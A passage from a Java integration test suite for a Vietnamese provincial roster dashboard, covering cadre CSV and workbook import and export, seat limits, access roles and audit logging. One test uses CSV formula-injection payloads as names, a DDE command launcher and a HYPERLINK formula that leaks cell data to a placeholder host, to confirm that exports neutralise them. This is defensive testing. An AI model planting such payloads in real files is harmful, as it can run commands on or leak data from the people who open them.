package vn.tayninh.dashboard.roster;

import vn.tayninh.dashboard.FixedClockConfig;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.tuple;
import static vn.tayninh.dashboard.roster.RosterCsvParserTest.HEADER;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.sql.Date;
import java.time.LocalDate;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.security.access.AccessDeniedException;
import org.springframework.security.authentication.UsernamePasswordAuthenticationToken;
import org.springframework.security.core.context.SecurityContextHolder;
import org.springframework.security.core.userdetails.UserDetails;
import org.springframework.security.core.userdetails.UserDetailsService;
import org.springframework.test.context.ActiveProfiles;
import org.springframework.transaction.annotation.Transactional;
import vn.tayninh.dashboard.commune.Commune;
import vn.tayninh.dashboard.commune.CommuneService;
import vn.tayninh.dashboard.position.Position;
import vn.tayninh.dashboard.roster.ImportResult.CommuneCounts;

/**
 * Importing and exporting through the services on an empty database, signed in with the demo accounts.
 * Each test runs in a transaction rolled back afterwards.
 */
@SpringBootTest
@ActiveProfiles("test")
@Transactional
class RosterImportTest {

    static final String TAN_NINH = "phuong-tan-ninh";
    static final String HUNG_DIEN = "xa-hung-dien";
    /** The export writes the optional columns of training in progress too. */
    static final String EXPORT_HEADER = HEADER.replace("llct_advanced_trained,",
            "llct_advanced_trained,studying_for,study_end,llct_studying_for,llct_study_end,planning,").replace("\n", "\r\n");

    @Autowired
    RosterImporter importer;
    @Autowired
    RosterExporter exporter;
    @Autowired
    UserDetailsService userDetailsService;
    @Autowired
    CommuneService communes;
    @Autowired
    JdbcTemplate jdbc;

    private final LocalDate today = FixedClockConfig.TODAY;

    /** Room for every title and seat in the two communes of these tests; a test may narrow it. */
    @BeforeEach
    void approveSeats() {
        for (String commune : List.of(TAN_NINH, HUNG_DIEN)) {
            for (Position position : Position.values()) {
                jdbc.update("INSERT INTO approved_seat (commune_id, position_code, seats) VALUES (?, ?, 9)",
                        communeNamed(commune).getId(), position.name());
            }
        }
    }

    @AfterEach
    void signOut() {
        SecurityContextHolder.clearContext();
    }

    @Test
    void addKeepsWhatIsThereAndReplaceEndsItWithoutDeleting() throws IOException {
        signIn("admin");
        String file = HEADER
                + row(TAN_NINH, "Nguyễn Văn Một", "BI_THU;CT_HDND", "BTV", "HTXS", "HTT")
                + row(TAN_NINH, "Trần Thị Hai", "CT_UBND", "BCH", "", "HT")
                + row(TAN_NINH, "Lê Văn Ba", "", "NONE", "", "")
                + row(HUNG_DIEN, "Phạm Thị Bốn", "PCT_UBND", "NONE", "KHT", "");

        ImportResult added = importer.commit(csv(file), ImportMode.ADD);

        assertThat(added.committed()).isTrue();
        assertThat(added.importDate()).isEqualTo(today);
        assertThat(added.communes()).containsExactly(new CommuneCounts(TAN_NINH, 3, 0), new CommuneCounts(HUNG_DIEN, 1, 0));
        assertThat(added.added()).isEqualTo(4);
        assertThat(activeCadres(TAN_NINH)).isEqualTo(3);
        assertThat(activeHoldings(TAN_NINH)).isEqualTo(6);
        assertThat(activeHoldings(HUNG_DIEN)).isEqualTo(1);

        importer.commit(csv(file), ImportMode.ADD);
        assertThat(activeCadres(TAN_NINH)).isEqualTo(6);
        assertThat(activeHoldings(TAN_NINH)).isEqualTo(12);

        ImportResult replaced = importer.commit(csv(HEADER
                + row(TAN_NINH, "Võ Văn Năm", "BI_THU", "BCH", "", "")
                + row(TAN_NINH, "Đỗ Thị Sáu", "", "NONE", "", "")), ImportMode.REPLACE);

        assertThat(replaced.communes()).containsExactly(new CommuneCounts(TAN_NINH, 2, 6));
        assertThat(replaced.ended()).isEqualTo(6);
        assertThat(activeCadres(TAN_NINH)).isEqualTo(2);
        assertThat(activeHoldings(TAN_NINH)).isEqualTo(2);
        // the other commune of the earlier files is not in this one, so it keeps its cadres
        assertThat(activeCadres(HUNG_DIEN)).isEqualTo(2);
        assertThat(activeHoldings(HUNG_DIEN)).isEqualTo(2);
        // ended, not deleted: the records and seats stay as history, ending on the import date
        assertThat(count("SELECT COUNT(*) FROM cadre c JOIN commune m ON m.id = c.commune_id WHERE m.code = ?", TAN_NINH))
                .isEqualTo(8);
        assertThat(count("SELECT COUNT(*) FROM cadre WHERE end_date = ? AND end_reason = 'OTHER'", today)).isEqualTo(6);
        assertThat(count("SELECT COUNT(*) FROM position_holding WHERE end_date = ? AND end_reason = 'OTHER'", today))
                .isEqualTo(12);
    }

    @Test
    void standingCommitteeMembersSitOnTheExecutiveCommitteeAndRatingsAreKept() throws IOException {
        signIn("bantochuc");

        importer.commit(csv(HEADER + row(TAN_NINH, "Nguyễn Văn Một", "PHO_BI_THU_TT", "BTV", "HTXS", "HTT")),
                ImportMode.ADD);

        assertThat(jdbc.queryForList("""
                SELECT position_code AS POSITION_CODE, start_date AS START_DATE, decision_number AS DECISION_NUMBER
                FROM position_holding WHERE end_date IS NULL ORDER BY position_code""")).containsExactly(
                Map.of("POSITION_CODE", "BCH", "START_DATE", Date.valueOf(today), "DECISION_NUMBER", "Nhập từ tệp"),
                Map.of("POSITION_CODE", "BTV", "START_DATE", Date.valueOf(today), "DECISION_NUMBER", "Nhập từ tệp"),
                Map.of("POSITION_CODE", "PHO_BI_THU_TT", "START_DATE", Date.valueOf(today),
                        "DECISION_NUMBER", "Nhập từ tệp"));
        assertThat(jdbc.queryForList("SELECT rating_year AS RATING_YEAR, rating AS RATING FROM annual_rating ORDER BY rating_year"))
                .containsExactly(Map.of("RATING_YEAR", 2025, "RATING", "HTXS"), Map.of("RATING_YEAR", 2026, "RATING", "HTT"));
        assertThat(count("SELECT COUNT(*) FROM cadre WHERE start_date = ? AND end_date IS NULL", today)).isEqualTo(1);
    }

    @Test
    void oneBadLineAmongManyWritesNothing() throws IOException {
        signIn("admin");
        importer.commit(csv(HEADER + row(TAN_NINH, "Người Có Sẵn", "BI_THU", "BCH", "", "")), ImportMode.ADD);
        StringBuilder file = new StringBuilder(HEADER);
        for (int i = 1; i <= 200; i++) {
            file.append(row(i % 2 == 0 ? TAN_NINH : HUNG_DIEN, "Cán Bộ " + i, "", "NONE", "HT", ""));
        }
        file.append(row(TAN_NINH, "Cán Bộ Lỗi", "", "NONE", "HT", "").replace(",NAM,", ",NAM GIOI,"));
        file.append(row(HUNG_DIEN, "Cán Bộ Cuối", "", "NONE", "HT", ""));

        assertThatThrownBy(() -> importer.commit(csv(file.toString()), ImportMode.REPLACE))
                .isInstanceOfSatisfying(InvalidRosterException.class, e -> assertThat(e.errors())
                        .extracting(ImportError::line, ImportError::column, ImportError::message)
                        .containsExactly(tuple(202, "Giới tính", "Giới tính phải là Nam, Nữ (NAM, NU) hoặc để trống")));

        assertThat(count("SELECT COUNT(*) FROM cadre")).isEqualTo(1);
        assertThat(count("SELECT COUNT(*) FROM cadre WHERE end_date IS NOT NULL")).isZero();
        assertThat(count("SELECT COUNT(*) FROM position_holding WHERE end_date IS NULL")).isEqualTo(2);
        assertThat(count("SELECT COUNT(*) FROM annual_rating")).isZero();
    }

    @Test
    void previewReportsWhatACommitWouldDoAndWritesNothing() throws IOException {
        signIn("admin");
        String file = HEADER + row(TAN_NINH, "Nguyễn Văn Một", "", "BCH", "", "") + row(TAN_NINH, "Trần Thị Hai", "", "NONE", "", "");
        importer.commit(csv(file), ImportMode.ADD);

        ImportResult preview = importer.preview(csv(file), ImportMode.REPLACE);

        assertThat(preview.committed()).isFalse();
        assertThat(preview.communes()).containsExactly(new CommuneCounts(TAN_NINH, 2, 2));
        assertThat(activeCadres(TAN_NINH)).isEqualTo(2);
        assertThat(count("SELECT COUNT(*) FROM cadre")).isEqualTo(2);
    }

    @Test
    void provincialStaffAndTheCommunesOwnEditorMayImport() throws IOException {
        String ownCommune = HEADER + row(TAN_NINH, "Nguyễn Văn Một", "", "NONE", "", "");
        for (String user : List.of("admin", "bantochuc", TAN_NINH)) {
            signIn(user);
            assertThat(importer.commit(csv(ownCommune), ImportMode.ADD).added()).as(user).isEqualTo(1);
        }
        assertThat(activeCadres(TAN_NINH)).isEqualTo(3);
    }

    @Test
    void anEditorsFileNamingAnotherCommuneIsRefusedWhole() throws IOException {
        signIn(TAN_NINH);
        String file = HEADER + row(TAN_NINH, "Nguyễn Văn Một", "", "NONE", "", "")
                + row(HUNG_DIEN, "Trần Thị Hai", "", "NONE", "", "")
                + row("xa-vinh-thanh", "Lê Văn Ba", "", "NONE", "", "");

        assertThatThrownBy(() -> importer.commit(csv(file), ImportMode.REPLACE))
                .isInstanceOf(AccessDeniedException.class)
                .hasMessage("Bạn chỉ được nhập cán bộ của xã, phường mình; tệp có đơn vị khác: xa-hung-dien, xa-vinh-thanh");
        assertThatThrownBy(() -> importer.preview(csv(file), ImportMode.ADD)).isInstanceOf(AccessDeniedException.class);
        assertThat(count("SELECT COUNT(*) FROM cadre")).isZero();
    }

    @Test
    void leadersAndAnonymousCallersMayNotImport() {
        String file = HEADER + row(TAN_NINH, "Nguyễn Văn Một", "", "NONE", "", "");
        assertThatThrownBy(() -> importer.commit(csv(file), ImportMode.ADD)).isInstanceOf(AccessDeniedException.class);

        signIn("lanhdao");
        assertThatThrownBy(() -> importer.commit(csv(file), ImportMode.ADD))
                .isInstanceOf(AccessDeniedException.class)
                .hasMessage("Vai trò của bạn không được nhập danh sách cán bộ");
        assertThat(count("SELECT COUNT(*) FROM cadre")).isZero();
    }

    @Test
    void everySignedInRoleExportsWhatItMayReadInTheImportFormat() throws IOException {
        signIn("admin");
        importer.commit(csv(HEADER
                + row(HUNG_DIEN, "Phạm Thị \"Bốn\", Út", "PCT_UBND", "NONE", "KHT", "")
                + row(TAN_NINH, "Nguyễn Văn Một", "CT_HDND;BI_THU", "BTV", "HTXS", "HTT")), ImportMode.ADD);
        String expectedTanNinh = "phuong-tan-ninh,Nguyễn Văn Một,NAM,1980-01-01,Kinh,DAI_HOC,TRUNG_CAP,false,NHA_NUOC,"
                + "BI_THU;CT_HDND,BTV,false,false,false,false,,,,,,HTXS,HTT\r\n";
        // communes in the order of their administrative codes: Tân Ninh 25459, Hưng Điền 27727
        String expectedHungDien = "xa-hung-dien,\"Phạm Thị \"\"Bốn\"\", Út\",NAM,1980-01-01,Kinh,DAI_HOC,TRUNG_CAP,false,"
                + "NHA_NUOC,PCT_UBND,NONE,false,false,false,false,,,,,,KHT,\r\n";

        signIn("lanhdao");
        ByteArrayOutputStream province = new ByteArrayOutputStream();
        exporter.exportProvince(today, province);
        assertThat(province.toString(StandardCharsets.UTF_8))
                .isEqualTo(EXPORT_HEADER + expectedTanNinh + expectedHungDien);

        signIn(TAN_NINH);
        ByteArrayOutputStream commune = new ByteArrayOutputStream();
        exporter.exportCommune(communeNamed(TAN_NINH), today, commune);
        assertThat(commune.toString(StandardCharsets.UTF_8))
                .isEqualTo(EXPORT_HEADER + expectedTanNinh);

        ByteArrayOutputStream before = new ByteArrayOutputStream();
        exporter.exportCommune(communeNamed(TAN_NINH), today.minusDays(1), before);
        assertThat(before.toString(StandardCharsets.UTF_8)).isEqualTo(EXPORT_HEADER.replace(",rating_2025,rating_2026\r\n", "\r\n"));

        // a commune editor reads their own commune only, not the province's nor another commune's
        ByteArrayOutputStream refused = new ByteArrayOutputStream();
        assertThatThrownBy(() -> exporter.exportProvince(today, refused))
                .isInstanceOf(AccessDeniedException.class)
                .hasMessage("Cán bộ xã, phường chỉ được tải danh sách cán bộ của đơn vị mình");
        assertThatThrownBy(() -> exporter.exportCommune(communeNamed(HUNG_DIEN), today, refused))
                .isInstanceOf(AccessDeniedException.class);
        assertThat(refused.size()).isZero();

        SecurityContextHolder.clearContext();
        assertThatThrownBy(() -> exporter.exportProvince(today, new ByteArrayOutputStream()))
                .isInstanceOf(AccessDeniedException.class);
    }

    @Test
    void aFileBreakingTheSeatRulesIsRefusedWithTheLineColumnAndRuleAndWritesNothing() throws IOException {
        signIn("bantochuc");
        approve(HUNG_DIEN, Position.BI_THU, 1);
        approve(HUNG_DIEN, Position.CT_UBND, 1);
        approve(HUNG_DIEN, Position.CT_HDND, 1);
        approve(HUNG_DIEN, Position.BCH, 3);
        approve(HUNG_DIEN, Position.BTV, 2);
        // fills BI_THU 1/1, CT_UBND 1/1, BCH 3/3, BTV 2/2
        importer.commit(csv(HEADER + row(HUNG_DIEN, "Bí Thư Cũ", "BI_THU", "BTV", "", "")
                + row(HUNG_DIEN, "Chủ Tịch Cũ", "CT_UBND", "BTV", "", "")
                + row(HUNG_DIEN, "Ủy Viên Cũ", "", "BCH", "", "")), ImportMode.ADD);
        String seatsFull = "Đã đủ số lượng được phê duyệt (%d); Ban Tổ chức có thể điều chỉnh số được phê duyệt";
        String crowded = HEADER + row(HUNG_DIEN, "Người Thừa", "CT_UBND;BI_THU;CT_HDND", "BTV", "", "");

        assertThatThrownBy(() -> importer.preview(csv(crowded), ImportMode.ADD))
                .isInstanceOfSatisfying(InvalidRosterException.class, e -> assertThat(e.errors())
                        .extracting(ImportError::line, ImportError::column, ImportError::message)
                        .containsExactly(
                                tuple(2, "Chức danh", "Bí thư: " + seatsFull.formatted(1)),
                                tuple(2, "Chức danh", "Chủ tịch UBND: " + seatsFull.formatted(1)),
                                tuple(2, "Cấp ủy", "Ủy viên BCH: " + seatsFull.formatted(3)),
                                tuple(2, "Cấp ủy", "Ủy viên BTV: " + seatsFull.formatted(2))));
        assertThatThrownBy(() -> importer.commit(csv(crowded), ImportMode.ADD))
                .isInstanceOf(InvalidRosterException.class);

        // replacing ends the holders first: the first row fits, the second Secretary does not
        String secondSecretary = crowded + row(HUNG_DIEN, "Bí Thư Thứ Hai", "BI_THU", "NONE", "", "");
        assertThatThrownBy(() -> importer.commit(csv(secondSecretary), ImportMode.REPLACE))
                .isInstanceOfSatisfying(InvalidRosterException.class, e -> assertThat(e.errors())
                        .extracting(ImportError::line, ImportError::column, ImportError::message)
                        .containsExactly(tuple(3, "Chức danh", "Bí thư: " + seatsFull.formatted(1))));

        // a rating for a year the rating form does not accept
        String futureRating = HEADER.replace("rating_2026", "rating_2099")
                + row(HUNG_DIEN, "Người Xếp Loại Trước", "", "NONE", "", "HTXS");
        assertThatThrownBy(() -> importer.commit(csv(futureRating), ImportMode.ADD))
                .isInstanceOfSatisfying(InvalidRosterException.class, e -> assertThat(e.errors())
                        .extracting(ImportError::line, ImportError::column, ImportError::message)
                        .containsExactly(tuple(2, "Xếp loại 2099", "Năm xếp loại phải từ 2020 đến 2026")));

        assertThat(activeCadres(HUNG_DIEN)).isEqualTo(3);
        assertThat(activeHoldings(HUNG_DIEN)).isEqualTo(7);
        assertThat(count("SELECT COUNT(*) FROM annual_rating")).isZero();

        ImportResult replaced = importer.commit(csv(crowded), ImportMode.REPLACE);
        assertThat(replaced.communes()).containsExactly(new CommuneCounts(HUNG_DIEN, 1, 3));
        assertThat(activeHoldings(HUNG_DIEN)).isEqualTo(5);
    }

    @Test
    void everyRecordAnImportCreatesOrEndsIsInTheAuditTrail() throws IOException {
        signIn("bantochuc");
        importer.commit(csv(HEADER + row(TAN_NINH, "Nguyễn Văn Một", "BI_THU", "BTV", "HTXS", "HTT")),
                ImportMode.ADD);
        long cadre = count("SELECT id FROM cadre");
        // by position code: BCH, BI_THU, BTV
        List<Long> holdingIds = jdbc.queryForList("SELECT id FROM position_holding ORDER BY position_code", Long.class);
        List<Long> ratingIds = jdbc.queryForList("SELECT id FROM annual_rating ORDER BY rating_year", Long.class);
        String date = "22/11/2026";

        assertThat(audit()).containsExactly(
                "CADRE " + cadre + " CREATE fullName:  → Nguyễn Văn Một",
                "HOLDING " + holdingIds.get(1) + " CREATE cadre:  → Nguyễn Văn Một",
                "HOLDING " + holdingIds.get(1) + " CREATE position:  → BI_THU",
                "HOLDING " + holdingIds.get(1) + " CREATE startDate:  → " + date,
                "HOLDING " + holdingIds.get(1) + " CREATE decisionNumber:  → Nhập từ tệp",
                "HOLDING " + holdingIds.get(0) + " CREATE cadre:  → Nguyễn Văn Một",
                "HOLDING " + holdingIds.get(0) + " CREATE position:  → BCH",
                "HOLDING " + holdingIds.get(0) + " CREATE startDate:  → " + date,
                "HOLDING " + holdingIds.get(0) + " CREATE decisionNumber:  → Nhập từ tệp",
                "HOLDING " + holdingIds.get(2) + " CREATE cadre:  → Nguyễn Văn Một",
                "HOLDING " + holdingIds.get(2) + " CREATE position:  → BTV",
                "HOLDING " + holdingIds.get(2) + " CREATE startDate:  → " + date,
                "HOLDING " + holdingIds.get(2) + " CREATE decisionNumber:  → Nhập từ tệp",
                "RATING " + ratingIds.get(0) + " CREATE cadre:  → Nguyễn Văn Một",
                "RATING " + ratingIds.get(0) + " CREATE year:  → 2025",
                "RATING " + ratingIds.get(0) + " CREATE rating:  → HTXS",
                "RATING " + ratingIds.get(1) + " CREATE cadre:  → Nguyễn Văn Một",
                "RATING " + ratingIds.get(1) + " CREATE year:  → 2026",
                "RATING " + ratingIds.get(1) + " CREATE rating:  → HTT");

        jdbc.update("DELETE FROM audit_entry");
        importer.commit(csv(HEADER + row(TAN_NINH, "Trần Thị Hai", "", "NONE", "", "")), ImportMode.REPLACE);
        long second = count("SELECT id FROM cadre WHERE end_date IS NULL");

        assertThat(audit()).containsExactly(
                "CADRE " + cadre + " END fullName: Nguyễn Văn Một → ",
                "CADRE " + cadre + " END endDate:  → " + date,
                "CADRE " + cadre + " END reason:  → OTHER",
                "HOLDING " + holdingIds.get(1) + " END endDate:  → " + date,
                "HOLDING " + holdingIds.get(1) + " END reason:  → OTHER",
                "HOLDING " + holdingIds.get(0) + " END endDate:  → " + date,
                "HOLDING " + holdingIds.get(0) + " END reason:  → OTHER",
                "HOLDING " + holdingIds.get(2) + " END endDate:  → " + date,
                "HOLDING " + holdingIds.get(2) + " END reason:  → OTHER",
                "CADRE " + second + " CREATE fullName:  → Trần Thị Hai");
        assertThat(jdbc.queryForList("SELECT DISTINCT actor FROM audit_entry", String.class))
                .containsExactly("bantochuc");
    }

    @Test
    void formulaLikeTextsAreExportedInertAndImportedBackUnchanged() throws IOException {
        signIn("admin");
        String name = "+cmd|' /C calc'!A0";
        String link = "=HYPERLINK(\"http://x\"&A2,\"Xem\")";
        importer.commit(csv(HEADER
                + row(TAN_NINH, name, "", "NONE", "", "").replace(",Kinh,", ",=1+1,")
                + row(TAN_NINH, link, "", "NONE", "", "").replace(",Kinh,", ",@Khmer,")
                + row(TAN_NINH, "-Lê Văn Ba", "", "NONE", "", "")), ImportMode.ADD);
        assertThat(names()).containsExactly(name + " | =1+1", link + " | @Khmer", "-Lê Văn Ba | Kinh");

        ByteArrayOutputStream exported = new ByteArrayOutputStream();
        exporter.exportCommune(communeNamed(TAN_NINH), today, exported);
        assertThat(exported.toString(StandardCharsets.UTF_8).lines().skip(1).toList()).containsExactly(
                "phuong-tan-ninh,'+cmd|' /C calc'!A0,NAM,1980-01-01,'=1+1,DAI_HOC,TRUNG_CAP,false,NHA_NUOC,,NONE,"
                        + "false,false,false,false,,,,,",
                "phuong-tan-ninh,\"'=HYPERLINK(\"\"http://x\"\"&A2,\"\"Xem\"\")\",NAM,1980-01-01,'@Khmer,DAI_HOC,"
                        + "TRUNG_CAP,false,NHA_NUOC,,NONE,false,false,false,false,,,,,",
                "phuong-tan-ninh,'-Lê Văn Ba,NAM,1980-01-01,Kinh,DAI_HOC,TRUNG_CAP,false,NHA_NUOC,,NONE,"
                        + "false,false,false,false,,,,,");

        importer.commit(new ByteArrayInputStream(exported.toByteArray()), ImportMode.REPLACE);
        assertThat(names()).containsExactly(name + " | =1+1", link + " | @Khmer", "-Lê Văn Ba | Kinh");

        // exactly one quote is taken away, and only before = + - @ tab or carriage return
        importer.commit(csv(HEADER + row(HUNG_DIEN, "''=x", "", "NONE", "", "")
                + row(HUNG_DIEN, "'An", "", "NONE", "", "")), ImportMode.ADD);
        assertThat(jdbc.queryForList("""
                SELECT c.full_name FROM cadre c JOIN commune m ON m.id = c.commune_id
                WHERE m.code = ? ORDER BY c.id""", String.class, HUNG_DIEN)).containsExactly("'=x", "'An");
    }

    @Test
    void theSameFileAddedAgainIsMatchedAndSkippedUpdatedOrAddedAsChosen() throws IOException {
        signIn("admin");
        String file = HEADER
                + row(TAN_NINH, "Nguyễn Văn Một", "BI_THU", "BCH", "HTXS", "")
                + row(TAN_NINH, "Trần Thị Hai", "", "NONE", "", "HT")
                // no birth date: matches only a cadre of the same name whose birth date is unknown too
                + row(TAN_NINH, "Lê Văn Ba", "", "NONE", "", "").replace(",1980-01-01,", ",,")
                + row(TAN_NINH, "Đỗ Văn Sáu", "", "NONE", "", "")
                + row(HUNG_DIEN, "Phạm Thị Bốn", "", "NONE", "", "");
        importer.commit(csv(file), ImportMode.ADD, OnMatch.SKIP);
        assertThat(activeCadres(TAN_NINH)).isEqualTo(4);
        long auditLines = count("SELECT COUNT(*) FROM audit_entry");

        // the same people, written otherwise: case, spaces, a dd/MM/yyyy date
        String again = HEADER
                + row(TAN_NINH, "  NGUYỄN  văn một ", "BI_THU", "BCH", "HTXS", "").replace(",1980-01-01,", ",01/01/1980,")
                + row(TAN_NINH, "Trần Thị Hai", "", "NONE", "", "HT")
                + row(TAN_NINH, "Lê Văn Ba", "", "NONE", "", "").replace(",1980-01-01,", ",,")
                // a birth date where the record has none: another person for the import
                + row(TAN_NINH, "Đỗ Văn Sáu", "", "NONE", "", "").replace(",1980-01-01,", ",,")
                + row(TAN_NINH, "Võ Văn Năm", "", "NONE", "", "")
                // same name, another birth date: another person
                + row(HUNG_DIEN, "Phạm Thị Bốn", "", "NONE", "", "").replace(",1980-01-01,", ",1981-01-01,");
        ImportResult preview = importer.preview(csv(again), ImportMode.ADD, OnMatch.SKIP);
        assertThat(preview.communes()).containsExactly(
                new CommuneCounts(TAN_NINH, 2, 0, 3, 0, 3), new CommuneCounts(HUNG_DIEN, 1, 0, 0, 0, 0));
        assertThat(List.of(preview.matched(), preview.skipped(), preview.added())).containsExactly(3L, 3L, 3L);
        assertThat(count("SELECT COUNT(*) FROM audit_entry")).isEqualTo(auditLines);

        ImportResult skipped = importer.commit(csv(again), ImportMode.ADD, OnMatch.SKIP);
        assertThat(List.of(skipped.matched(), skipped.skipped(), skipped.added(), skipped.updated()))
                .containsExactly(3L, 3L, 3L, 0L);
        // Đỗ Văn Sáu without a birth date and Võ Văn Năm added, the three matching rows not
        assertThat(activeCadres(TAN_NINH)).isEqualTo(6);
        assertThat(activeCadres(HUNG_DIEN)).isEqualTo(2);
        assertThat(activeHoldings(TAN_NINH)).isEqualTo(2);

        // update: the profile and ratings of the matching cadres change, titles stay, nothing is added
        String corrected = HEADER
                + row(TAN_NINH, "Nguyễn Văn Một", "", "NONE", "HTT", "HTXS").replace(",DAI_HOC,", ",THAC_SI,")
                + row(TAN_NINH, "Trần Thị Hai", "", "NONE", "", "HT").replace(",NAM,", ",NU,");
        long lastAudit = count("SELECT MAX(id) FROM audit_entry");
        ImportResult updated = importer.commit(csv(corrected), ImportMode.ADD, OnMatch.UPDATE);
        assertThat(updated.communes()).containsExactly(new CommuneCounts(TAN_NINH, 0, 0, 2, 2, 0));
        assertThat(activeCadres(TAN_NINH)).isEqualTo(6);
        assertThat(activeHoldings(TAN_NINH)).isEqualTo(2);
        assertThat(jdbc.queryForList("""
                SELECT CONCAT(c.full_name, ' ', c.gender, ' ', c.education, ' ', r.rating_year, ' ', r.rating)
                FROM cadre c JOIN annual_rating r ON r.cadre_id = c.id ORDER BY c.id, r.rating_year""", String.class))
                .containsExactly("Nguyễn Văn Một NAM THAC_SI 2025 HTT", "Nguyễn Văn Một NAM THAC_SI 2026 HTXS",
                        "Trần Thị Hai NU DAI_HOC 2026 HT");
        // audited as the forms audit: education, a rating corrected, a rating entered, a gender
        assertThat(jdbc.queryForList("SELECT CONCAT(entity, ' ', action, ' ', field) FROM audit_entry WHERE id > ?"
                + " ORDER BY id", String.class, lastAudit)).containsExactly(
                "CADRE UPDATE education", "RATING UPDATE rating", "RATING CREATE cadre", "RATING CREATE year",
                "RATING CREATE rating",
                "CADRE UPDATE gender");

        // add: every row goes in as another record
        ImportResult added = importer.commit(csv(corrected), ImportMode.ADD, OnMatch.ADD);
        assertThat(List.of(added.matched(), added.added(), added.updated(), added.skipped()))
                .containsExactly(2L, 2L, 0L, 0L);
        assertThat(activeCadres(TAN_NINH)).isEqualTo(8);

        // replacing matches nothing: every record is ended first
        ImportResult replaced = importer.preview(csv(corrected), ImportMode.REPLACE, OnMatch.SKIP);
        assertThat(List.of(replaced.matched(), replaced.added(), replaced.ended())).containsExactly(0L, 2L, 8L);
    }

    @Test
    void aFaultyUpdateWritesNothing() throws IOException {
        signIn("admin");
        importer.commit(csv(HEADER + row(TAN_NINH, "Nguyễn Văn Một", "", "NONE", "", "")), ImportMode.ADD, OnMatch.SKIP);
        long auditLines = count("SELECT COUNT(*) FROM audit_entry");
        String file = HEADER + row(TAN_NINH, "Nguyễn Văn Một", "", "NONE", "", "").replace(",DAI_HOC,", ",THAC_SI,")
                + row(TAN_NINH, "Người Mới", "", "NONE", "", "").replace(",NAM,", ",NAM GIOI,");
        assertThatThrownBy(() -> importer.commit(csv(file), ImportMode.ADD, OnMatch.UPDATE))
                .isInstanceOfSatisfying(InvalidRosterException.class, e -> assertThat(e.errors())
                        .extracting(ImportError::line, ImportError::column).containsExactly(tuple(3, "Giới tính")));
        assertThat(count("SELECT COUNT(*) FROM audit_entry")).isEqualTo(auditLines);
        assertThat(count("SELECT COUNT(*) FROM cadre WHERE education = 'THAC_SI'")).isZero();
        assertThat(activeCadres(TAN_NINH)).isEqualTo(1);
    }

    @Test
    void theWorkbookAndTheCsvPeopleReadImportBackToTheSameRoster() throws IOException {
        signIn("admin");
        importer.commit(csv(HEADER
                + row(TAN_NINH, "Nguyễn Văn Một", "BI_THU;CT_HDND", "BTV", "HTXS", "HTT")
                + row(TAN_NINH, "=1+1", "", "BCH", "", "KHT").replace(",Kinh,", ",@Khmer,")
                + row(TAN_NINH, "Lê Văn Ba", "", "NONE", "", "").replace(",1980-01-01,", ",,")), ImportMode.ADD);
        String codes = export(RosterExporter.FileType.CSV, true);

        for (RosterExporter.FileType type : RosterExporter.FileType.values()) {
            ByteArrayOutputStream readable = new ByteArrayOutputStream();
            exporter.exportCommune(communeNamed(TAN_NINH), today, type, false, readable);
            ImportResult result = importer.commit(new ByteArrayInputStream(readable.toByteArray()), ImportMode.REPLACE,
                    OnMatch.SKIP);
            assertThat(result.communes()).containsExactly(new CommuneCounts(TAN_NINH, 3, 3));
            assertThat(export(RosterExporter.FileType.CSV, true)).as(type.name()).isEqualTo(codes);
        }

        String labels = export(RosterExporter.FileType.CSV, false);
        assertThat(labels.lines().toList()).containsExactly(
                "\uFEFF\"Xã, phường\",Họ và tên,Giới tính,Ngày sinh,Dân tộc,Trình độ chuyên môn,Lý luận chính trị,"
                        + "\"Khoa học, công nghệ\",Khối,Chức danh,Cấp ủy,Quy hoạch chức danh chủ chốt,Quy hoạch cấp ủy,"
                        + "Nguồn cán bộ trẻ,Đã đào tạo cao cấp LLCT,Đang học trình độ,Ngày kết thúc khóa học,"
                        + "Đang học lý luận chính trị,Ngày kết thúc khóa lý luận chính trị,Quy hoạch theo chức danh và nhiệm kỳ,"
                        + "Xếp loại 2025,Xếp loại 2026",
                "Phường Tân Ninh,Nguyễn Văn Một,Nam,01/01/1980,Kinh,Đại học,Trung cấp,Không,Nhà nước,"
                        + "Bí thư; Chủ tịch HĐND,Ủy viên BTV,Không,Không,Không,Không,,,,,,Hoàn thành xuất sắc nhiệm vụ,"
                        + "Hoàn thành tốt nhiệm vụ",
                "Phường Tân Ninh,'=1+1,Nam,01/01/1980,'@Khmer,Đại học,Trung cấp,Không,Nhà nước,,Ủy viên BCH,Không,"
                        + "Không,Không,Không,,,,,,,Không hoàn thành nhiệm vụ",
                "Phường Tân Ninh,Lê Văn Ba,Nam,,Kinh,Đại học,Trung cấp,Không,Nhà nước,,Không,Không,Không,Không,"
                        + "Không,,,,,,,");
    }

    private String export(RosterExporter.FileType type, boolean codes) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        exporter.exportCommune(communeNamed(TAN_NINH), today, type, codes, out);
        return out.toString(StandardCharsets.UTF_8);
    }

    private List<String> names() {
        return jdbc.query("""
                SELECT c.full_name, c.ethnicity FROM cadre c JOIN commune m ON m.id = c.commune_id
                WHERE m.code = ? AND c.end_date IS NULL ORDER BY c.id""",
                (rs, i) -> rs.getString(1) + " | " + rs.getString(2), TAN_NINH);
    }

    private List<String> audit() {
        return jdbc.query("SELECT entity, entity_id, action, field, old_value, new_value FROM audit_entry ORDER BY id",
                (rs, i) -> rs.getString(1) + " " + rs.getLong(2) + " " + rs.getString(3) + " " + rs.getString(4)
                        + ": " + (rs.getString(5) == null ? "" : rs.getString(5)) + " → "
                        + (rs.getString(6) == null ? "" : rs.getString(6)));
    }

    private void approve(String commune, Position position, int seats) {
        jdbc.update("UPDATE approved_seat SET seats = ? WHERE commune_id = ? AND position_code = ?", seats,
                communeNamed(commune).getId(), position.name());
    }

    /** A row of a valid cadre: a Kinh man born 1980 with a university degree, in the state bloc. */
    static String row(String commune, String name, String titles, String committee, String rating2025,
                      String rating2026) {
        String quoted = name.contains(",") || name.contains("\"") ? "\"" + name.replace("\"", "\"\"") + "\"" : name;
        return String.join(",", commune, quoted, "NAM", "1980-01-01", "Kinh", "DAI_HOC", "TRUNG_CAP", "false",
